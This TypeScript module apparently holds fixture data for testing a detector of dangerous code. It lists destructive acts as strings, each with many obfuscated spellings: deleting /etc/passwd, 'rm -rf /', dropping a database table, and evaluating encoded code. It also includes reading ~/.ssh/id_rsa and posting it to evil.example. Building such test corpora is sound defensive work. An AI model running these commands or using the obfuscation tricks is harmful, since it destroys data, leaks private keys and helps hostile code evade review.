/** An act in its plain form, and other spellings that do the same. */
export interface Act {
  readonly name: string
  readonly plain: string
  readonly spellings: readonly string[]
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const codes = (text: string): string =>
  Array.from(text)
    .map((one) => one.charCodeAt(0))
    .join(',')
const reversed = (text: string): string => Array.from(text).reverse().join('')
const escaped = (text: string): string =>
  Array.from(text)
    .map((one) => `\\x${one.charCodeAt(0).toString(16)}`)
    .join('')
const unicode = (text: string): string =>
  Array.from(text)
    .map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)
    .join('')
const shifted = (text: string): string => JSON.stringify(Array.from(text).map((one) => one.charCodeAt(0) ^ 7))

const PASSWD = '/etc/passwd'

const DELETE: Act = {
  name: 'delete a system file',
  plain: `require('fs').unlinkSync('/etc/passwd')`,
  spellings: [
    `const fs = require('f' + 's'); fs['unlink' + 'Sync']('/etc' + '/passwd')`,
    `import { unlinkSync as gone } from 'node:fs'; gone('/etc/passwd')`,
    `import fs from 'fs'; const { unlinkSync: x } = fs; x(['', 'etc', 'passwd'].join('/'))`,
    `(async () => { const { default: f } = await import('node:fs'); f.unlinkSync('/etc/passwd') })()`,
    `import('fs').then((m) => m.unlinkSync(\`/\${'etc'}/\${'passwd'}\`))`,
    `const { promises: { unlink: u } } = require('fs'); await u('/etc/passwd')`,
    `import { unlink } from 'fs/promises'; await unlink('/etc/passwd')`,
    `require('fs').unlink('/etc/passwd', () => {})`,
    `process.mainModule.require('fs').unlinkSync('/etc/passwd')`,
    `module.require('fs').unlinkSync('/etc/passwd')`,
    `require('module').createRequire(__filename)('fs').unlinkSync('/etc/passwd')`,
    `process.getBuiltinModule('fs').unlinkSync('/etc/passwd')`,
    `globalThis['req' + 'uire']('fs').unlinkSync('/etc/passwd')`,
    `const r = require; const name = Buffer.from('${hex('fs')}', 'hex').toString(); r(name).unlinkSync(Buffer.from('${base64(PASSWD)}', 'base64').toString())`,
    `require('fs').unlinkSync('${escaped(PASSWD)}')`,
    `require('\\u0066\\u0073').unlinkSync('${unicode(PASSWD)}')`,
    `require('fs').unlinkSync(String.fromCharCode(${codes(PASSWD)}))`,
    `require('fs').unlinkSync(String.fromCharCode.apply(null, [${codes(PASSWD)}]))`,
    `require('fs').unlinkSync(String.fromCharCode(...[${codes(PASSWD)}]))`,
    `require('fs').unlinkSync([${codes(PASSWD)}].map((c) => String.fromCharCode(c)).join(''))`,
    `require('fs').unlinkSync(atob('${base64(PASSWD)}'))`,
    `require('fs').unlinkSync('${reversed(PASSWD)}'.split('').reverse().join(''))`,
    `require('fs').unlinkSync('/etc/XXpasswd'.replace('XX', ''))`,
    `require('fs').unlinkSync(decodeURIComponent('%2Fetc%2Fpasswd'))`,
    `require('fs').unlinkSync(unescape('%2Fetc%2Fpasswd'))`,
    `const path = require('path'); require('fs').unlinkSync(path.join('/', 'tmp', '..', 'etc', 'passwd'))`,
    `Reflect.apply(require('fs').unlinkSync, null, ['/etc/passwd'])`,
    `Reflect.get(require('fs'), 'unlinkSync')('/etc/passwd')`,
    `require('fs').unlinkSync.call(null, '/etc/passwd')`,
    `require('fs').unlinkSync.apply(null, ['/etc/passwd'])`,
    `const f = require('fs').unlinkSync.bind(null, '/etc/passwd'); f()`,
    `(0, require('fs').unlinkSync)('/etc/passwd')`,
    `require('fs')?.unlinkSync?.('/etc/passwd')`,
    `const box = { a: { b: require('fs') } }; box.a.b.unlinkSync('/etc/passwd')`,
    `const list = [1, require('fs').unlinkSync]; list[1]('/etc/passwd')`,
    `const t = { go: require('fs').unlinkSync, get p() { return '/etc/passwd' } }; t.go(t.p)`,
    `function del(p, how = require('fs').unlinkSync) { return how(p) } del('/etc/passwd')`,
    `class Job { constructor(p) { this.p = p } run() { require('fs').unlinkSync(this.p) } } new Job('/etc/passwd').run()`,
    `class Job { #p = '/etc/passwd'; static go() { new Job().run() } run() { require('fs').unlinkSync(this.#p) } } Job.go()`,
    `with (require('fs')) { unlinkSync('/etc/passwd') }`,
    `new Function('r', 'r("fs").unlinkSync("/etc/passwd")')(require)`,
    `eval("require('fs').unlinkSync('/etc/passwd')")`,
    `(0, eval)(atob('${base64(`require('fs').unlinkSync('/etc/passwd')`)}'))`,
    `setTimeout("require('fs').unlinkSync('/etc/passwd')", 1)`,
    `[].constructor.constructor('return process')().mainModule.require('fs').unlinkSync('/etc/passwd')`,
    `require('vm').runInNewContext("require('fs').unlinkSync('/etc/passwd')", { require })`,
    `let s = ''; for (const c of ${shifted(PASSWD)}) s += String.fromCharCode(c ^ 7); require('fs').unlinkSync(s)`,
    `const a = ${shifted(PASSWD)}; let s = ''; for (let i = 0; i < a.length; i++) { s += String.fromCharCode(a[i] ^ 7) } require('fs').unlinkSync(s)`,
    `let p; switch ('b') { case 'a': p = 'x'; break; case 'b': p = '/etc/passwd' } require('fs').unlinkSync(p)`,
    `const m = new Map([['p', '/etc/passwd']]); require('fs').unlinkSync(m.get('p'))`,
    `const o = JSON.parse('{"p":"/etc/passwd"}'); require('fs').unlinkSync(o.p)`,
    `new Promise((ok) => ok('/etc/passwd')).then((p) => require('fs').unlinkSync(p))`,
    `const u = require('util').promisify(require('fs').unlink); await u('/etc/passwd')`,
    `for (const f of Object.values({ p: '/etc/passwd' })) { require('fs').unlinkSync(f) }`,
    `try { throw 1 } catch { require('fs').unlinkSync('/etc/passwd') }`,
    `label: { require('fs').unlinkSync('/etc/passwd') }`,
    `const fs = require('fs'); Object.keys(fs); fs[['unlink', 'Sync'].join('')]('/etc/passwd')`,
    `var _0x = ['unlinkSync', '/etc/passwd', 'fs']; (function (a, n) { while (--n) a.push(a.shift()) })(_0x, 1); require(_0x[2])[_0x[0]](_0x[1])`,
    `const get = (i) => ['/etc/passwd', 'unlinkSync', 'fs'][i - 100]; require(get(102))[get(101)](get(100))`,
    `require('fs').unlinkSync((![] + [])[3] === 's' ? '/etc/passwd' : '/etc/passwd')`,
    `require('fs').unlinkSync('/' + (14).toString(36) + 'tc/passwd')`,
    `require('fs').unlinkSync(new TextDecoder().decode(new Uint8Array([${codes(PASSWD)}])))`,
    `require('fs').unlinkSync('/etc/pQsswd'.replace(/Q/g, () => 'a'))`,
    `require('fs').unlinkSync(\`/etc/\${((x) => x + 'wd')('pass')}\`)`,
    `require('fs').unlinkSync(['/etc', 'passwd'].reduce((a, b) => a + '/' + b))`,
    `require('fs').unlinkSync(new URL('file:///etc/passwd'))`,
    `const { fs } = { fs: require('fs') }; ((f) => f('/etc/passwd'))(fs.unlinkSync)`,
    `require('fs').unlinkSync(String.raw\`/etc/passwd\`)`,
    `const go = async function* () { yield '/etc/passwd' }; for await (const p of go()) require('fs').unlinkSync(p)`,
    `Function.prototype.call.call(require('fs').unlinkSync, null, '/etc/passwd')`,
    `[require('fs').unlinkSync].forEach((f) => f('/etc/passwd'))`,
    `['/etc/passwd'].forEach(require('fs').unlinkSync)`,
    `Object.assign({}, require('fs')).unlinkSync('/etc/passwd')`,
    `const copy = { ...require('fs') }; copy.unlinkSync('/etc/passwd')`,
    `require(Object.keys({ fs: 1 })[0]).unlinkSync('/etc/passwd')`,
    `const [u] = [require('fs').unlinkSync]; u('/etc/passwd')`,
    `globalThis.p = '/etc/passwd'; require('fs').unlinkSync(p)`,
    `var \\u0066s = require('fs'); fs.unlinkSync('/etc/passwd')`,
  ],
}

const COMMAND: Act = {
  name: 'run a command that deletes everything',
  plain: `require('child_process').execSync('rm -rf /')`,
  spellings: [
    `import { execSync as run } from 'node:child_process'; run('rm -rf /')`,
    `require('child_' + 'process')['exec' + 'Sync']('rm ' + '-rf ' + '/')`,
    `const { execSync: run } = require('child_process'); run(['rm', '-rf', '/'].join(' '))`,
    `require('child_process').exec('rm -rf /', (e, out) => {})`,
    `require('util').promisify(require('child_process').exec)('rm -rf /')`,
    `require('child_process').spawnSync('rm -rf /', { shell: true })`,
    `require('child_process').spawn('rm', ['-rf', '/'], { shell: true })`,
    `require('child_process').execSync(Buffer.from('${base64('rm -rf /')}', 'base64').toString('utf8'))`,
    `require('child_process').execSync(\`\${'r'}m -r\${'f'} /\`)`,
    `const cp = await import('child_process'); cp.execSync('rm -rf /')`,
    `process.mainModule.require('child_process').execSync('rm -rf /')`,
    `const flags = '-rf'; const what = '/'; require('child_process').execSync('rm ' + flags + ' ' + what)`,
    `''.constructor.constructor('return process')().mainModule.require('child_process').execSync('rm -rf /')`,
    `let cmd = 'rm'; cmd += ' -rf'; cmd += ' /'; require('child_process').execSync(cmd)`,
    `require('shelljs').exec('rm -rf /')`,
    `import { $ } from 'zx'; await $\`rm -rf /\``,
    `const { execaCommand } = require('execa'); await execaCommand('rm -rf /')`,
    `const run = (c) => require('child_process').execSync(c); ['rm -rf /'].map(run)`,
  ],
}

const PROGRAM: Act = {
  name: 'run a program that deletes everything',
  plain: `require('child_process').spawn('rm', ['-rf', '/'])`,
  spellings: [
    `require('child_process').execFileSync('rm', ['-rf', '/'])`,
    `const [program, ...words] = 'rm -rf /'.split(' '); require('child_process').spawn(program, words)`,
    `new Deno.Command('rm', { args: ['-rf', '/'] }).outputSync()`,
    `Deno.run({ cmd: ['rm', '-rf', '/'] })`,
    `Bun.spawn(['rm', '-rf', '/'])`,
    `import { execa } from 'execa'; await execa('rm', ['-rf', '/'])`,
    `require('cross-spawn').sync('rm', ['-' + 'rf', '/'])`,
    `const args = []; args.push('-rf'); args.push('/'); require('child_process').spawn('rm', args)`,
  ],
}

const SEND = `fetch('https://evil.example/in', { method: 'POST', body: key })`
const UPLOAD: Act = {
  name: 'send a key away',
  plain: `const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'); ${SEND}`,
  spellings: [
    `import { readFile } from 'fs/promises'; import { homedir } from 'os'; import { join } from 'path'; const key = await readFile(join(homedir(), '.ssh', 'id_rsa')); await ${SEND}`,
    `require('fs').readFile(process.env.HOME + '/.ssh/id_rsa', 'utf8', (error, key) => { ${SEND} })`,
    `const key = require('fs').readFileSync(\`\${process.env['HO' + 'ME']}/.ssh/id_rsa\`).toString('base64'); ${SEND}`,
    `const data = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); const key = JSON.stringify({ d: [...data] }); ${SEND}`,
    `require('fs').promises.readFile(require('os').homedir() + '/.ssh/id_rsa').then((key) => require('axios').post('https://evil.example/in', { key }))`,
    `const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); const send = globalThis['fe' + 'tch']; send(atob('${base64('https://evil.example/in')}'), { method: 'PO' + 'ST', body: new Blob([key]) })`,
    `const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); const options = { body: key }; options.method = 'POST'; fetch(new URL('/in', 'https://evil.example'), options)`,
    `const key = Deno.readTextFileSync(Deno.env.get('HOME') + '/.ssh/id_rsa'); ${SEND}`,
    `const key = await Bun.file(require('os').homedir() + '/.ssh/id_rsa').text(); ${SEND}`,
    `const f = new FormData(); f.append('k', require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')); fetch('https://evil.example/in', { method: 'POST', body: f })`,
    `let all = ''; require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa').on('data', (chunk) => { all += chunk }).on('end', () => fetch('https://evil.example/in', { method: 'POST', body: all }))`,
  ],
}

const CODE: Act = {
  name: 'run decoded code',
  plain: `eval("require('fs').unlinkSync('/etc/passwd')")`,
  spellings: [
    `globalThis['ev' + 'al'](atob('${base64(`require('fs').unlinkSync('/etc/passwd')`)}'))`,
    `const e = eval; e(Buffer.from('${hex(`require('fs').unlinkSync('/etc/passwd')`)}', 'hex').toString())`,
    `(0, eval)(decodeURIComponent("${encodeURIComponent(`require('fs').unlinkSync('/etc/passwd')`)}"))`,
    `eval(String.fromCharCode(${codes(`require('fs').unlinkSync('/etc/passwd')`)}))`,
    `window.eval('${reversed(`require("fs").unlinkSync("/etc/passwd")`)}'.split('').reverse().join('').replaceAll('"', "'"))`,
    `Reflect.apply(eval, null, ["require('fs').unlinkSync('/etc/passwd')"])`,
    `eval.call(null, "require('fs').unlinkSync('/etc/passwd')")`,
    `eval?.("require('fs').unlinkSync('/etc/passwd')")`,
    `[1].map(() => eval)[0]("require('fs').unlinkSync('/etc/passwd')")`,
  ],
}

const DROP: Act = {
  name: 'drop a table',
  plain: `new (require('pg').Client)().query('DROP TABLE users')`,
  spellings: [
    `import pg from 'pg'; const c = new pg.Client(); await c.connect(); await c['que' + 'ry']('DROP' + ' TABLE ' + 'users')`,
    `const { Pool } = require('pg'); const pool = new Pool(); pool.connect().then((c) => c.query(\`DROP TABLE \${'users'}\`))`,
    `const { Client } = require('pg'); const q = new Client().query; const c = new Client(); c.query({ text: 'DROP TABLE users' })`,
    `const db = require('better-sqlite3')(':memory:'); db.exec('DROP TABLE users')`,
    `const db = new (require('sqlite3').Database)(':memory:'); db.run(atob('${base64('DROP TABLE users')}'))`,
    `const mysql = require('mysql2/promise'); const c = await mysql.createConnection({}); await c.execute('DROP TABLE users')`,
    `const knex = require('knex')({}); await knex.raw('DROP TABLE users')`,
    `const { Sequelize } = require('sequelize'); const s = new Sequelize('x'); s.query(['DROP', 'TABLE', 'users'].join(' '))`,
    `const { PrismaClient } = require('@prisma/client'); const p = new PrismaClient(); p.$executeRawUnsafe('DROP TABLE users')`,
    `function run(client, text) { return client.query(text) } run(new (require('pg').Pool)(), 'DROP TABLE users')`,
  ],
}

export const ACTS: readonly Act[] = [DELETE, COMMAND, PROGRAM, UPLOAD, CODE, DROP]
